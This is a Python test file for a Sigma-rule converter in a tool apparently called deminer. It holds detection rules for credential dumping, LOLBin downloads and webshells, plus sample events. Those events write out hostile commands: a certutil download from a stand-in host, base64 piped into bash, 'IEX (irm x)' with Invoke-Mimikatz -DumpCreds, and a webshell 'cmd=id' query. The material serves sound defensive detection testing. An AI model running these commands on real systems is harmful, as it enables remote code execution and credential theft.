"""Conversion coverage on rules written the way SigmaHQ writes them (no checkout offline).

Twenty-one rules across the log sources a public rule set uses: 16 deminer has logs for,
5 it has not (cloud, macOS, Zeek, an unknown Windows channel, a placeholder needing a
pipeline). The supported ones must convert, run as valid SQL, and the ones with an example
event below must fire; the others must be reported with their reason.
"""

from __future__ import annotations

import textwrap
import time
from pathlib import Path

from deminer.case import Case
from deminer.detect.sigma.loader import load
from deminer.detect.sigma.run import execute
from tests.detect import sigma_gen as g

WIN_PROC = "{category: process_creation, product: windows}"
SECURITY = "{product: windows, service: security}"
SYSTEM = "{product: windows, service: system}"


def sigma(title: str, logsource: str, detection: str, tags: str = "[attack.execution, attack.t1059]") -> str:
    detection = textwrap.dedent(detection).strip("\n")
    if "condition:" not in detection:
        detection += "\ncondition: selection"
    text = g.rule(detection, logsource=logsource, title=title, extra="author: test\ndate: 2024-01-01\n")
    return text.replace("tags: [attack.execution, attack.t1059]", f"tags: {tags}")


SUPPORTED = {
    "proc_creation_win_certutil_download.yml": sigma("Certutil Download", WIN_PROC, r"""
        selection_img: {Image|endswith: '\certutil.exe'}
        selection_cli: {CommandLine|contains: ['urlcache ', 'verifyctl ']}
        selection_http: {CommandLine|contains: 'http'}
        condition: all of selection_*"""),
    "proc_creation_win_whoami.yml": sigma("Whoami Execution", WIN_PROC, r"""
        selection:
          - Image|endswith: '\whoami.exe'
          - OriginalFileName: 'whoami.exe'
        condition: selection""", "[attack.discovery, attack.t1033]"),
    "proc_creation_win_bitsadmin_download.yml": sigma("Bitsadmin Download", WIN_PROC, r"""
        selection_img: {Image|endswith: '\bitsadmin.exe'}
        selection_cmd: {CommandLine|contains: ' /transfer '}
        condition: all of selection_*"""),
    "proc_creation_win_rundll32_no_args.yml": sigma("Rundll32 Without Arguments", WIN_PROC, r"""
        selection: {CommandLine|endswith: ['\rundll32.exe', '\rundll32.exe"', 'rundll32']}
        filter_main_parent: {ParentImage|endswith: ['\svchost.exe', '\msiexec.exe']}
        condition: selection and not 1 of filter_main_*"""),
    "proc_creation_win_wmic_process_create.yml": sigma("Wmic Process Call Create", WIN_PROC, r"""
        selection: {Image|endswith: '\wmic.exe', CommandLine|contains|all: [process, call, create]}"""),
    "proc_creation_lnx_base64_to_shell.yml": sigma("Base64 Decoded Into A Shell",
        "{category: process_creation, product: linux}", r"""
        selection: {CommandLine|re: 'base64 (-d|--decode).*\|\s*(ba)?sh'}"""),
    "posh_ps_invoke_mimikatz.yml": sigma("Invoke-Mimikatz", "{category: ps_script, product: windows}", r"""
        selection: {ScriptBlockText|contains|all: ['DumpCreds', 'Invoke-Mimikatz']}"""),
    "win_security_lsass_handle.yml": sigma("LSASS Handle Request", SECURITY, r"""
        selection: {EventID: 4656, ObjectName|endswith: '\lsass.exe', AccessMask: ['0x1410', '0x1010']}"""),
    "win_system_service_psexec.yml": sigma("PsExec Service Installed", SYSTEM, r"""
        selection: {EventID: 7045, ServiceName: 'PSEXESVC'}"""),
    "win_security_admin_group_add.yml": sigma("Member Added To Administrators", SECURITY, r"""
        selection: {EventID: 4732, TargetSid: 'S-1-5-32-544'}"""),
    "registry_set_run_key_appdata.yml": sigma("Run Key Points To AppData",
        "{category: registry_set, product: windows}", r"""
        selection: {TargetObject|contains: '\CurrentVersion\Run', Details|contains: '\AppData\'}"""),
    "file_event_win_exe_in_temp.yml": sigma("Executable Dropped In Temp",
        "{category: file_event, product: windows}", r"""
        selection: {TargetFilename|contains: '\Temp\', TargetFilename|endswith: '.exe'}"""),
    "image_load_dbghelp.yml": sigma("Dbghelp Loaded", "{category: image_load, product: windows}", r"""
        selection: {ImageLoaded|endswith: '\dbghelp.dll'}
        filter_main: {Image|startswith: ['C:\Program Files\', 'C:\Windows\System32\']}
        condition: selection and not filter_main"""),
    "proc_access_win_lsass.yml": sigma("LSASS Memory Access",
        "{category: process_access, product: windows}", r"""
        selection: {TargetImage|endswith: '\lsass.exe', GrantedAccess: ['0x1010', '0x1410', '0x1fffff']}"""),
    "web_webshell_cmd_param.yml": sigma("Webshell Command Parameter", "{category: webserver}", r"""
        selection: {cs-method: POST, cs-uri-query|contains: ['cmd=', 'exec=']}"""),
    "lnx_auth_invalid_user.yml": sigma("SSH Invalid User", "{product: linux, service: auth}", r"""
        keywords: ['Invalid user', 'invalid user']
        condition: keywords"""),
}

UNSUPPORTED = {
    "aws_console_login.yml": (sigma("Console Login", "{product: aws, service: cloudtrail}",
                                    "selection: {eventName: ConsoleLogin}"), "product=aws"),
    "macos_osascript.yml": (sigma("Osascript", "{product: macos, category: process_creation}",
                                  "selection: {Image|endswith: /osascript}"), "product=macos"),
    "zeek_dns.yml": (sigma("Zeek DNS", "{product: zeek, service: dns}", "selection: {query|endswith: .xyz}"),
                     "product=zeek"),
    "win_servicebus.yml": (sigma("Servicebus", "{product: windows, service: microsoft-servicebus-client}",
                                 "selection: {EventID: 1}"), "service=microsoft-servicebus-client"),
    "win_expand.yml": (sigma("Admins Expand", WIN_PROC, "selection: {User|expand: '%Admins%'}"),
                       "placeholder"),
}


def examples() -> list[g.Row]:
    return [
        g.proc(r"C:\Windows\System32\certutil.exe", "certutil -urlcache -split -f http://x/a.exe a.exe"),
        g.proc(r"C:\Windows\System32\whoami.exe", "whoami /all"),
        g.proc(r"C:\Windows\System32\rundll32.exe", r"C:\Windows\System32\rundll32.exe"),
        g.proc(r"C:\Windows\System32\wbem\WMIC.exe", "wmic /node:10.0.0.9 process call create x.exe"),
        g.linux("shell_command", "echo Y3VybA== | base64 -d | bash"),
        g.script("IEX (irm x); Invoke-Mimikatz -DumpCreds"),
        g.win(g.SECURITY, 4656, {"ObjectName": r"\Device\HarddiskVolume2\Windows\System32\lsass.exe",
                                 "AccessMask": "0x1410", "SubjectUserName": "bob"}),
        g.win(g.SYSTEM, 7045, {"ServiceName": "PSEXESVC", "ImagePath": r"%SystemRoot%\PSEXESVC.exe"}),
        g.win(g.SECURITY, 4732, {"TargetSid": "S-1-5-32-544", "TargetUserName": "Administrators",
                                 "MemberName": "-", "MemberSid": "S-1-5-21-1-2-3-1104"}),
        g.win(g.SYSMON, 13, {"Image": r"C:\x.exe", "EventType": "SetValue",
                             "TargetObject": r"HKU\S-1\Software\Microsoft\Windows\CurrentVersion\Run\upd",
                             "Details": r"C:\Users\bob\AppData\Roaming\upd.exe"}),
        g.win(g.SYSMON, 10, {"SourceImage": r"C:\Temp\m.exe", "TargetImage": r"C:\Windows\system32\lsass.exe",
                             "GrantedAccess": "0x1010"}),
        {"host": "web1", "ts": g.T0, "event": "web_request", "src_ip": "203.0.113.5", "status": "200",
         "source": "access.log", "source_line": 7, "program": "nginx",
         "data": '{"method": "POST", "path": "/up/s.php", "query": "cmd=id"}'},
        g.linux("invalid_user", None, program="sshd", raw="sshd[1]: Invalid user oracle from 203.0.113.9"),
    ]


# the rules the example events above must trigger (file, bitsadmin, dbghelp have none)
EXPECTED = {"Certutil Download", "Whoami Execution", "Rundll32 Without Arguments", "Wmic Process Call Create",
            "Base64 Decoded Into A Shell", "Invoke-Mimikatz", "LSASS Handle Request",
            "PsExec Service Installed",
            "Member Added To Administrators", "Run Key Points To AppData", "LSASS Memory Access",
            "Webshell Command Parameter", "SSH Invalid User"}


def test_sigmahq_style_coverage_and_timing(tmp_path: Path) -> None:
    files = {**SUPPORTED, **{name: text for name, (text, _) in UNSUPPORTED.items()}}
    folder = g.write_rules(tmp_path / "rules", files)
    started = time.perf_counter()
    converted = load([folder])
    load_seconds = time.perf_counter() - started
    assert {Path(r.path).name for r in converted.rules} == set(SUPPORTED)
    reasons = {Path(p.path).name: p for p in converted.problems}
    assert set(reasons) == set(UNSUPPORTED)
    for name, (_, why) in UNSUPPORTED.items():
        assert reasons[name].kind == "unsupported" and why in reasons[name].reason, name
    coverage = len(converted.rules) / len(files)
    assert coverage == 16 / 21

    with Case(None) as case:
        case.add("events", examples())
        run = execute(case, converted)
    assert run.problems == [p for p in converted.problems]          # every query ran
    assert {f.title for f in run.findings} == EXPECTED
    # Loose bounds that still catch a pathological slowdown (measured: ~1 ms per rule).
    assert load_seconds / len(files) < 0.25
    assert max(t.query_seconds for t in run.timings) < 2.0
